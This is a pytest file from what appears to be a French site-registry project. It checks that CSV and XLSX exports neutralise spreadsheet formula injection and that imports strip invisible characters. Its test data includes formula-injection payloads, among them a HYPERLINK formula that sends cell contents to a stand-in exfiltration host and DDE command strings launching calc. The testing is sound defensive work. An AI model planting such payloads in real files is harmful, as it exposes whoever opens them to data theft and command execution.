"""Cells that cannot hurt: formula prefixes neutralised in every CSV/XLSX the project writes,
invisible characters stripped and lengths bounded on import.

The attack: an operator's file (hand-made in this test) names a site
``=HYPERLINK("http://exfiltre.example/?"&A1,"clic")``, another ``@SUM(1+1)*cmd|' /C calc'!A0``,
a third ``+33 6…`` and a tab-prefixed formula; its column headers carry a formula too. Every
file the project writes from it is opened the way a spreadsheet would (openpyxl, raw CSV text)
and no cell may start with a formula character.
"""

from __future__ import annotations

import io

import openpyxl
import pandas as pd
import pytest

from diagnostics import exports as report_exports
from operators.cells import FORMULA_PREFIXES, clean_text, safe_cell, safe_frame
from operators.confidentiality import INTERNAL, PUBLIC
from operators.exports import export_registry
from operators.importer import import_file, prepare_import, write_rejects
from operators.repository import Registry
from tests.account_support import ADMIN

EVIL = [
    '=HYPERLINK("http://exfiltre.example/?"&A1,"clic")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+33 6 12 34 56 78",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
]
HEADER = "Opérateur;Nom;Adresse;Code INSEE;Type;Nb logements"


def evil_csv() -> bytes:
    rows = [f"Asso;{name};1 rue Haute;59350;Résidence sociale;{10 + i}"
            for i, name in enumerate(EVIL)]
    rows.append("Asso;Ligne rejetée;1 rue;59350;=cmd|' /C calc'!A0;5")  # a rejected row
    return ("\n".join([HEADER, *rows]) + "\n").encode("utf-8")


def assert_inert(cells) -> None:
    for cell in cells:
        if isinstance(cell, str):
            assert not cell.startswith(FORMULA_PREFIXES), repr(cell)


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "+1"), ("-12,5", "-12,5"), ("+33 6 12", "'+33 6 12"),
    ("@cmd", "'@cmd"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("Normal", "Normal"),
    ("- tiret", "'- tiret"), (["=a", "b"], "'=a, b"), (3, 3),
])
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_safe_frame_neutralises_headers_too():
    frame = safe_frame(pd.DataFrame({"=cmd": ["=x"], "ok": [1.5]}))
    assert list(frame.columns) == ["'=cmd", "ok"]
    assert frame.iloc[0].tolist() == ["'=x", 1.5]


@pytest.fixture
def registry(tmp_path, store):
    registry = Registry(tmp_path / "registre.gpkg")
    result = import_file(evil_csv(), registry, name="piege.csv", geocoder=None,
                         rejects_dir=tmp_path, actor=ADMIN)
    assert result.imported == len(EVIL) and result.rejected == 1
    yield registry
    registry.dispose()


def test_names_are_stored_as_given(registry):
    # Stored raw (the database is not a spreadsheet), apart from the outer spaces.
    assert set(registry.sites()["name"]) == {e.strip() for e in EVIL}


@pytest.mark.parametrize("audience", [PUBLIC, INTERNAL])
def test_registry_xlsx_export_has_no_live_formula(registry, tmp_path, audience):
    (path,) = export_registry(registry, tmp_path / "export.xlsx", audience)
    book = openpyxl.load_workbook(path)  # not read-only: formulas are kept as formulas
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                assert_inert([cell.value])


def test_registry_csv_export_neutralises_and_imports_back_unchanged(registry, tmp_path, store):
    paths = export_registry(registry, tmp_path / "export.csv", INTERNAL)
    for path in paths:
        text = path.read_text(encoding="utf-8-sig")
        cells = [c for line in text.splitlines() for c in line.split(";")]
        assert_inert(cells)
    other = Registry(tmp_path / "copie.gpkg")
    result = import_file(paths[0], other, geocoder=None, rejects_dir=tmp_path, actor=ADMIN)
    assert result.rejected == 0
    assert sorted(other.sites()["name"]) == sorted(registry.sites()["name"])
    other.dispose()


def test_rejects_file_neutralises_cells_and_headers(store, tmp_path):
    data = (HEADER.replace("Nb logements", "=Nb logements") + "\n"
            "Asso;=HYPERLINK(\"http://x\");1 rue;59350;=cmd|' /C calc'!A0;5\n").encode("utf-8")
    prepared = prepare_import(data, "rejets.csv", geocoder=None)
    assert len(prepared.rejects) == 1
    path = write_rejects(prepared, tmp_path)
    text = path.read_text(encoding="utf-8-sig")
    assert_inert([c for line in text.splitlines() for c in line.split(";")])
    assert "'=HYPERLINK" in text


def test_report_exports_and_app_downloads_share_the_helper():
    frame = pd.DataFrame({"Commune": EVIL, "Valeur": range(len(EVIL))})
    text = report_exports.csv_bytes(frame).decode("utf-8-sig")
    assert_inert([c.strip('"') for line in text.split("\r\n") for c in line.split(";")])
    from ui.downloads import xlsx_bytes

    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes({"communes": frame})))
    for row in book["communes"].iter_rows():
        for cell in row:
            assert cell.data_type != "f"
            assert_inert([cell.value])


@pytest.mark.parametrize("raw, clean", [
    ("Foyer\u202eA\u202c", "FoyerA"),  # right-to-left override
    ("Mai\u200bson\u200d relais", "Maison relais"),  # zero-width space and joiner
    ("\ufeffRésidence\u2066 B\u2069", "Résidence B"),  # BOM, isolates
    ("'=1+1", "=1+1"),  # the neutralising apostrophe is removed on re-import
    ("'apostrophe", "'apostrophe"),
    ("  normal ", "normal"),
])
def test_clean_text(raw, clean):
    assert clean_text(raw) == clean


def test_imported_names_lose_invisible_characters_and_long_fields_are_refused(store):
    long_name = "N" * 201
    data = (HEADER + "\n"
            "Asso;Foyer\u202eNOM\u202c\u200b;1 rue;59350;Résidence sociale;5\n"
            f"Asso;{long_name};1 rue;59350;Résidence sociale;5\n").encode("utf-8")
    prepared = prepare_import(data, "bidi.csv", geocoder=None)
    assert prepared.sites["name"].tolist() == ["FoyerNOM"]
    (reason,) = prepared.rejects.values()
    assert "nom" in reason.lower() and "trop long (201 caractères, au plus 200)" in reason
